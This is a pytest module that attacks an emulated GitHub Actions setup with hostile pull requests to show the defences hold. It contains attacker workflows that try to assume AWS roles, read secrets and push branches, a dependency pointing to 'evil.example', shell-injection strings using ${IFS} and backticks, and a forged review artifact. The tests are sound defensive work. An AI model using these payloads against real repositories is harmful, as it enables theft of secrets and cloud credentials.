"""Hostile pull requests, as events: executed by the workflow files, on GitHub's own terms.

``CANARY`` in a payload is a file that any execution would make; the roles, environments and
secrets are those of docs/how-to/github.md, and a secret of the repository is the other canary.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest
from builders_github import Team, fork_of, repository, request, team
from emulator.run import WorkflowRun

SECRET = "canary-repository-secret"
PLAN = ".github/workflows/plan.yml"
CHECKOUT = "actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd"
AWS = "aws-actions/configure-aws-credentials@61815dcd50bd041e203e49132bacad1fd04d2708"
UPLOAD = "actions/upload-artifact@b7c566a772e6b6bfb58ed0dc250532a479d7789f"


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory, aft_socket: Path) -> Iterator[Team]:
    """One repository with an applied main, for all of these attacks."""
    with team(tmp_path_factory.mktemp("target") / "team", aft_socket, repository()) as it:
        it.hub.secrets["KEY"] = SECRET
        (run,) = it.hub.push("main")
        assert run.conclusion == "success", run.text
        yield it


@pytest.fixture
def canary(target: Team, tmp_path: Path) -> Iterator[Path]:
    """Nothing made it, nothing leaked into anything people see, and main is as it was."""
    path = tmp_path / "canary"
    github = target.github
    main, runs = github.git.branch("main"), len(target.hub.runs)
    yield path
    assert not path.exists(), "something of the pull request was executed"
    seen = "\n".join(run.text for run in target.hub.runs[runs:])
    seen += "\n".join(comment.body for comment in github.state.comments.values())
    for secret in (SECRET, *github.tokens):
        assert secret not in seen
    assert github.git.branch("main") == main


def evil(on: str, job: str, *, permissions: str = "write-all") -> dict[str, str]:
    """A workflow of the attacker's own."""
    text = f"on: {on}\npermissions: {permissions}\njobs:\n  evil:\n    runs-on: x\n{job}"
    return {".github/workflows/evil.yml": text}


ROLE = f"""\
      - uses: {AWS}
        with: {{role-to-assume: "@ROLE@", aws-region: us-east-1}}
      - run: touch CANARY
"""


def armed(files: dict[str, str], canary: Path, role: str = "") -> dict[str, str | bytes]:
    return {
        name: text.replace("CANARY", str(canary)).replace("@ROLE@", role)
        for name, text in files.items()
    }


def comment_of(it: Team, number: int) -> str:
    (found,) = [body for body in it.comments(number) if body.startswith("<!-- aft:plan -->")]
    return found


# --- workflows and actions in the pull request ------------------------------------------------


def test_the_plan_workflow_is_edited_in_the_pull_request(target: Team, canary: Path) -> None:
    files = {PLAN: "on: pull_request_target\njobs: {x: {runs-on: x, steps: [{run: touch CANARY}]}}"}
    pull, run = target.open("edits-plan", armed({**files, **request("a1")}, canary))
    assert run.conclusion == "success", run.text
    assert set(run.jobs) == {"plan", "plan-fork", "comment"}, "the base's workflow ran"
    assert "1 to create" in comment_of(target, pull.number)


def test_the_action_and_aft_are_edited_in_the_pull_request(target: Team, canary: Path) -> None:
    action = "runs: {using: composite, steps: [{shell: bash, run: touch CANARY}]}\n"
    files = {
        ".github/actions/aft/action.yml": action,
        ".ci/run.lock": "evil @ https://evil.example/evil.whl\n",
        "pyproject.toml": 'name = "evil"\n',
        "aft/cli/main.py": "open('CANARY', 'w')\n",
    }
    before = len(target.hub.toolchain.installations)
    _, run = target.open("edits-action", armed({**files, **request("a2")}, canary))
    assert run.conclusion == "success", run.text
    installed = target.hub.toolchain.installations[before:]
    assert len(installed) == 2, "once for the plan, once for the comment"
    assert all(line.endswith("/actions") for line in installed), "from the base's commit"


@pytest.mark.parametrize("environment", ["aft-plan", "aft-apply"])
@pytest.mark.parametrize("on", ["pull_request", "push"])
def test_a_new_workflow_asks_for_an_environment(
    target: Team, canary: Path, on: str, environment: str
) -> None:
    files = evil(on, f"    environment: {environment}\n    steps:\n{ROLE}")
    role = target.hub.vars["AFT_APPLY_ROLE"]
    done = _evil_run(target, on, f"asks-{on}-{environment}", armed(files, canary, role))
    assert done.jobs["evil"].result == "failure"
    assert "not allowed to deploy" in done.text


@pytest.mark.parametrize("role", ["AFT_PLAN_ROLE", "AFT_APPLY_ROLE"])
@pytest.mark.parametrize("on", ["pull_request", "push"])
def test_a_new_workflow_becomes_a_role_without_an_environment(
    target: Team, canary: Path, on: str, role: str
) -> None:
    files = armed(evil(on, f"    steps:\n{ROLE}"), canary, target.hub.vars[role])
    done = _evil_run(target, on, f"becomes-{on}-{role}", files)
    assert done.jobs["evil"].result == "failure"
    assert "Not authorized to perform sts:AssumeRoleWithWebIdentity" in done.text


def _evil_run(
    target: Team, on: str, branch: str, files: Mapping[str, str | bytes], fork: Path | None = None
) -> WorkflowRun:
    """What becomes of the attacker's own workflow."""
    target.push(branch, files, to=fork)
    if on == "push":
        runs = target.hub.push(branch)
    else:
        pull = target.github.open_pull(branch, fork=fork, author="mallory")
        runs = target.hub.pull_request(pull, "opened", event=on)
    (done,) = (run for run in runs if run.path.endswith("/evil.yml"))
    return done


def test_a_fork_brings_a_workflow_that_reads_secrets_and_writes(
    target: Team, canary: Path, tmp_path: Path
) -> None:
    job = f"""\
    env: {{KEY: "${{{{ secrets.KEY }}}}", GITHUB_TOKEN: "${{{{ github.token }}}}"}}
    steps:
      - uses: {CHECKOUT}
      - run: '[ -z "$KEY" ] && [ -z "$ACTIONS_ID_TOKEN_REQUEST_URL" ]'
      - run: git push --quiet origin HEAD:refs/heads/owned && touch CANARY
"""
    fork = fork_of(target.hub, tmp_path / "fork")
    files = armed(evil("pull_request", job), canary)
    done = _evil_run(target, "pull_request", "fork-writes", files, fork)
    assert [done.jobs["evil"].steps[key]["outcome"] for key in ("__0", "__1", "__2")] == [
        "success",
        "success",
        "failure",
    ], done.text
    assert target.github.git.branch("owned") == ""


def test_the_job_that_reads_a_fork_holds_nothing_worth_stealing(
    target: Team, canary: Path, tmp_path: Path
) -> None:
    fork = fork_of(target.hub, tmp_path / "fork")
    _, run = target.open("fork-plain", armed(request("a4"), canary), fork=fork, author="mallory")
    job = run.jobs["plan-fork"]
    assert job.result == "success", run.text
    assert job.permissions == {"contents": "read", "pull-requests": "read"}
    assert run.jobs["comment"].permissions == {
        "contents": "read",
        "pull-requests": "write",
        "statuses": "write",
    }
    for result in run.jobs.values():
        assert "id-token" not in result.permissions
        assert result.environment == ""


# --- texts of the event -----------------------------------------------------------------------

SHELL = "x';touch${IFS}CANARY;$(touch${IFS}CANARY)`touch${IFS}CANARY`&touch${IFS}CANARY|true"


def test_names_titles_and_bodies_with_shell_and_expressions(target: Team, canary: Path) -> None:
    branch = "feature/$(touch${IFS}x)`id`;'&|\"${{github.token}}"
    text = (SHELL + " ${{ secrets.KEY }} $(touch CANARY)").replace("CANARY", str(canary))
    pull, run = target.open(
        branch, armed(request("a5"), canary), title=text, body=text * 50, author="mallory"
    )
    assert run.conclusion == "success", run.text
    assert "1 to create" in comment_of(target, pull.number)
    assert "touch" not in run.text


def test_an_issue_with_shell_and_expressions(target: Team, canary: Path) -> None:
    text = (SHELL + "\n::add-mask::x\n${{ secrets.KEY }}").replace("CANARY", str(canary))
    body = f"### What should the account be called?\n\n{text}\n\n### Which team owns it?\n\n{text}"
    issue = target.github.open_issue(text, body=body, labels=["aft:request"], author="mallory")
    pulls = len(target.github.state.pulls)
    (run,) = target.hub.issue(issue)
    assert run.conclusion == "success", run.text
    assert len(target.github.state.pulls) == pulls
    assert len(target.comments(issue.number)) == 1, "an answer that says what to change"


def test_what_a_request_says_is_no_command_to_the_runner(target: Team, canary: Path) -> None:
    reason = '"::add-mask::aft\\n::error file=aft.yaml::pwned\\n::set-output name=state::x"'
    files = {"account-requests/a6.yaml": f"name: a6\nou: Sandbox\nreason: {reason}\n"}
    _, run = target.open("commands", armed(files, canary))
    job = run.jobs["plan"]
    assert job.annotations == [] or all(item.title for item in job.annotations), job.log.text
    assert "aft" not in job.log.masks


# --- the comment ------------------------------------------------------------------------------


def test_somebody_squats_the_comments_marker(target: Team, canary: Path) -> None:
    target.push("squat", armed(request("a7"), canary))
    pull = target.github.open_pull("squat", author="mallory")
    theirs = target.github.comment(pull.number, "<!-- aft:plan -->\n\nNo changes.", "mallory")
    for action in ("opened", "synchronize"):
        run = target.planned(pull, action)
        assert run.conclusion == "success", run.text
    assert theirs.body == "<!-- aft:plan -->\n\nNo changes."
    assert theirs.edits == 0
    (ours,) = [item for item in target.github.state.comments_of(pull.number) if item != theirs]
    assert ours.user.login == "github-actions[bot]"
    assert "1 to create" in ours.body
    assert ours.edits <= 1


def test_the_head_moves_while_it_is_planned(target: Team, canary: Path) -> None:
    """The event is of the first push; what is planned and commented is never the second's."""
    target.push("moves", armed(request("a8"), canary))
    pull = target.github.open_pull("moves", author="mallory")
    event = target.github.event(pull.number, "opened")
    target.push("moves", armed(request("second"), canary))
    target.github.refresh(pull.number)
    target.github.event = lambda *_: event  # GitHub delivers late
    try:
        run = next(r for r in target.hub.pull_request(pull, "opened") if r.path == PLAN)
    finally:
        del target.github.event
    assert run.conclusion == "success", run.text
    assert target.comments(pull.number) == []
    assert "second" not in run.text


def test_a_merge_conflict_is_said_and_nothing_is_planned(target: Team, canary: Path) -> None:
    files = {"account-requests/lab.yaml": "name: lab\nou: Workloads/Prod\n"}
    target.push("conflict", armed(files, canary))
    target.push("main-moves", {"account-requests/lab.yaml": "name: lab\nou: Workloads/Dev\n"})
    github = target.github
    main = github.git.branch("main")
    github.git.set_ref("refs/heads/main", github.git.branch("main-moves"))
    try:
        pull = github.open_pull("conflict", author="mallory")
        run = target.planned(pull, "opened")
    finally:
        github.git.set_ref("refs/heads/main", main)
    assert run.jobs["plan"].result == "failure"
    assert run.jobs["comment"].result == "success", run.text
    assert "conflict" in comment_of(target, pull.number), run.text
    assert "to create" not in comment_of(target, pull.number)


# --- the ledger and what was reviewed ---------------------------------------------------------


def test_a_pull_request_into_the_ledger_is_nobodys_business(target: Team, canary: Path) -> None:
    ledger = target.github.git.branch("aft/ledger")
    target.push("into-ledger", armed({"bindings/x.json": "{}", **request("b1")}, canary))
    pull = target.github.open_pull("into-ledger", base="aft/ledger", author="mallory")
    assert target.hub.pull_request(pull, "opened") == []
    assert target.github.git.branch("aft/ledger") == ledger


def test_a_spoofed_review_does_not_count(target: Team, canary: Path) -> None:
    """A workflow of the attacker's own leaves an artifact with the name of the plan's."""
    github = target.github
    main = github.git.branch("main")
    pull, run = target.open("spoof", armed(request("lab", "Workloads/Dev"), canary))
    assert run.conclusion == "success", run.text
    genuine = run.jobs["plan"].uploaded
    ((name, files),) = genuine.items()
    (artifact,) = [item for item in github.state.artifacts.values() if item.name == name]
    del github.state.artifacts[artifact.id]  # as if the plan had never been made

    forged = json.loads(files["reviewed.json"])
    spoof = f"""\
    steps:
      - run: mkdir out && printf '%s' "$REVIEW" > out/reviewed.json
        env: {{REVIEW: '{json.dumps(forged)}'}}
      - uses: {UPLOAD}
        with: {{name: {name}, path: out}}
"""
    text = evil("push", spoof, permissions="{}")[".github/workflows/evil.yml"]
    target.push("spoofer", {PLAN: text})
    github.git.set_ref("refs/heads/spoof-run", github.git.branch("spoofer"))
    (spoofed,) = (item for item in target.hub.push("spoofer") if item.path == PLAN)
    assert spoofed.conclusion == "success", spoofed.text
    spoofed.record.head_sha = pull.head_sha  # the same commit, on another branch
    try:
        applied = target.merge(pull)
        assert applied.jobs["apply"].result == "failure", applied.text
        assert "exit code 4" in applied.text
    finally:
        github.git.set_ref("refs/heads/main", main)
        target.clone.git("fetch", "--quiet", "origin")
        target.clone.git("reset", "--quiet", "--hard", "origin/main")
